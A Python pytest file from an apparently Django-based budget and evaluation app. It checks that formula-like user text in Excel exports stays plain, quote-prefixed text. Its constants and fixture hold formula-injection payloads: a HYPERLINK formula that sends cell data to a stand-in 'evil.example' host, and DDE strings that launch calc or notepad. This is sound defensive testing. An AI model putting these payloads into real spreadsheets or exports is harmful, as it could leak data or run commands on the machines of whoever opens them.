"""Text typed by users never becomes a formula in a workbook the app writes (CSV/formula injection).

Every export is opened the way Excel would (openpyxl, and the raw sheet XML): no cell holds a
formula or an error code, every text cell is text, text starting with = + - @ tab or CR carries
Excel's quotePrefix (shown as typed, kept as text when edited), and an exported workbook imports
back with the original texts.
"""

import io
import re
import zipfile

import openpyxl
import pytest
from django.contrib.auth import get_user_model

from budgets.importing import budget_import_prepare
from budgets.models import DepartmentBudget, FunctionalCategory, ProjectLine
from evaluations.scoring.models import Indicator, ManualScore
from evaluations.scoring.selectors import scoring_table
from evaluations.selectors import report_bundle
from reports.excel.report_workbook import build_report_workbook, workbook_bytes
from reports.excel.summary import summary_workbook_file
from reports.excel.template import build_import_template

# OWASP "CSV injection": cells starting with these are taken as formulas by spreadsheet programs.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
# Stored as a person could type them (leading whitespace is trimmed by the forms and the import).
TRIMMED = [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(1,1)", "#N/A", "=1"]
WITH_WHITESPACE = ["\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile(seed_evaluation):
    """The seed report with formula-like text in every place a workbook shows user text."""
    department = seed_evaluation.department
    department.full_name = HYPERLINK
    department.save()
    region = department.region
    region.name = "+cmd|' /C notepad'!A0"
    region.save()
    budget = DepartmentBudget.objects.get(department=department, fiscal_year_id=2018)
    lines = list(budget.project_lines.order_by("order"))
    for order, text in enumerate(TRIMMED, start=1):
        line = lines[order - 1] if order <= len(lines) else ProjectLine(budget=budget)
        line.name, line.order, line.purpose, line.management = text, order, DDE, "@SUM(A1:A9)"
        line.save()
    for text in WITH_WHITESPACE:
        ProjectLine.objects.create(budget=budget, name="x", purpose=text, order=99)
    functional = budget.functional_lines.order_by("order").first()
    functional.display_name = "-1+1"
    functional.save()
    FunctionalCategory.objects.filter(pk=functional.category_id).update(name='=HYPERLINK("http://evil.example")')
    table = scoring_table(seed_evaluation)
    manual = next(row for row in table.rows if row.manual)
    ManualScore.objects.create(
        evaluation=seed_evaluation,
        indicator=Indicator.objects.get(pk=manual.indicator_id),
        score=1,
        reason=DDE,
        user=get_user_model().objects.get(username="filler"),
    )
    return seed_evaluation


def exports(evaluation) -> dict[str, bytes]:
    reviewer = get_user_model().objects.get(username="reviewer")
    with summary_workbook_file(user=reviewer, year=2018) as summary:  # what the download streams
        return {
            "report": workbook_bytes(build_report_workbook(report_bundle(evaluation))),
            "template": workbook_bytes(build_import_template(evaluation.department, 2018)),
            "summary": summary.read(),
        }


def assert_no_formula_and_text_as_typed(name: str, data: bytes, expected_texts: set[str]):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for part in archive.namelist():
            if part.startswith("xl/worksheets/") and part.endswith(".xml"):
                xml = archive.read(part).decode()
                assert not re.search(r"<(\w+:)?f[ >]", xml), (name, part, "formula element")
                assert 't="e"' not in xml, (name, part, "error cell")
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    seen = set()
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type not in ("f", "e"), (name, sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (name, sheet.title, cell.coordinate)
                    # A CR written raw reads back as LF (XML end-of-line normalisation; lxml writes &#13;)
                    if cell.value.startswith((*FORMULA_TRIGGERS, "\n=")):
                        assert cell.quotePrefix, (name, sheet.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    seen |= {value.replace("\r", "\n") for value in seen}
    expected_texts = {text.replace("\r", "\n") for text in expected_texts}
    missing = {text for text in expected_texts if not any(text in value for value in seen)}
    assert not missing, (name, missing)


def test_formula_like_text_is_text_in_every_workbook(hostile):
    written = exports(hostile)
    expected = {
        "report": {HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(1,1)", "#N/A", "-1+1", "@SUM(A1:A9)", *WITH_WHITESPACE},
        "template": {HYPERLINK, DDE, "#N/A", "-1+1", '=HYPERLINK("http://evil.example")'},
        "summary": {HYPERLINK, "+cmd|' /C notepad'!A0"},
    }
    for name, data in written.items():
        assert_no_formula_and_text_as_typed(name, data, expected[name])


def test_the_shown_value_is_unchanged(hostile):
    sheet = openpyxl.load_workbook(io.BytesIO(exports(hostile)["report"]))["项目支出"]
    names = [sheet.cell(row, 2).value for row in range(4, 4 + len(TRIMMED))]
    assert names == TRIMMED  # no apostrophe, no space added: quotePrefix is a style, not a character
    assert sheet["A1"].value.startswith(HYPERLINK)


def test_exported_workbook_imports_back_with_the_original_text(hostile):
    department = hostile.department
    ProjectLine.objects.filter(order=99).delete()
    data = exports(hostile)
    preview = budget_import_prepare(department=department, fiscal_year_id=2018, data=data["report"])
    assert preview.problems == []
    assert preview.changes == []
    assert [line["name"] for line in preview.state["project_lines"]][: len(TRIMMED)] == TRIMMED
    assert {line["purpose"] for line in preview.state["project_lines"]} == {DDE}
    template = budget_import_prepare(department=department, fiscal_year_id=2018, data=data["template"])
    assert template.problems == [] and template.changes == []


def test_downloads_through_the_views_are_safe(client, hostile):
    client.force_login(get_user_model().objects.get(username="filler"))
    for url in (f"/reports/{hostile.pk}/excel/", f"/evaluations/{hostile.pk}/import/template.xlsx"):
        response = client.get(url)
        assert response.status_code == 200
        assert_no_formula_and_text_as_typed(url, response.content, {HYPERLINK})
    client.force_login(get_user_model().objects.get(username="reviewer"))
    response = client.get("/reports/summary.xlsx?year=2018")
    assert response.status_code == 200
    assert_no_formula_and_text_as_typed("summary view", b"".join(response.streaming_content), {HYPERLINK})
